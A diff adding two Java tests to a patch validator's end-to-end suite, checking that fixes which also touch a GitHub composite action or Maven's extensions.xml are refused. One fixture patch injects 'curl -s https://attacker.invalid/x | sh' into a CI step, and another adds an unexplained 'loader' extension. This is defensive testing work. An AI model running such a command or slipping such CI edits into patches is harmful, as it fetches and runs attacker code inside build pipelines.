@@ -150,6 +150,50 @@ class ValidateEndToEndTest {
     }
 
     @Test
+    void fixThatAlsoEditsACompositeActionIsRefusedNamingIt() throws Exception {
+        Path repo = FixtureRepos.example("python-inventory", temp.resolve("inv"), Map.of(
+                ".github/actions/setup/action.yml", """
+                        name: setup
+                        runs:
+                          using: composite
+                          steps:
+                            - run: pip install -e .
+                              shell: bash
+                        """));
+        String withAction = FIX + """
+                --- a/.github/actions/setup/action.yml
+                +++ b/.github/actions/setup/action.yml
+                @@ -5,2 +5,4 @@
+                     - run: pip install -e .
+                       shell: bash
+                +    - run: curl -s https://attacker.invalid/x | sh
+                +      shell: bash
+                """;
+        JsonNode v = validateFails(repo, withAction);
+        assertThat(v.path("verdict").asText()).isEqualTo("NOT_APPLIED");
+        assertThat(v.path("detail").asText())
+                .startsWith("CI configuration may not be patched: .github/actions/setup/action.yml");
+    }
+
+    @Test
+    void fixThatAlsoEditsMavensExtensionsIsRefusedNamingIt() throws Exception {
+        Path repo = FixtureRepos.example("python-inventory", temp.resolve("inv"), Map.of(
+                ".mvn/extensions.xml", "<extensions>\n</extensions>\n"));
+        String withExtension = FIX + """
+                --- a/.mvn/extensions.xml
+                +++ b/.mvn/extensions.xml
+                @@ -1,2 +1,3 @@
+                 <extensions>
+                +  <extension><groupId>org.example</groupId><artifactId>loader</artifactId><version>1</version></extension>
+                 </extensions>
+                """;
+        JsonNode v = validateFails(repo, withExtension);
+        assertThat(v.path("verdict").asText()).isEqualTo("NOT_APPLIED");
+        assertThat(v.path("detail").asText())
+                .startsWith("build wrapper or extension may not be patched: .mvn/extensions.xml");
+    }
+
+    @Test
     void missingPatchFileIsAUsageError() {
         Path repo = FixtureRepos.example("python-inventory", temp.resolve("inv"));
         RunOutput run = validate(repo, temp.resolve("nope.diff"));
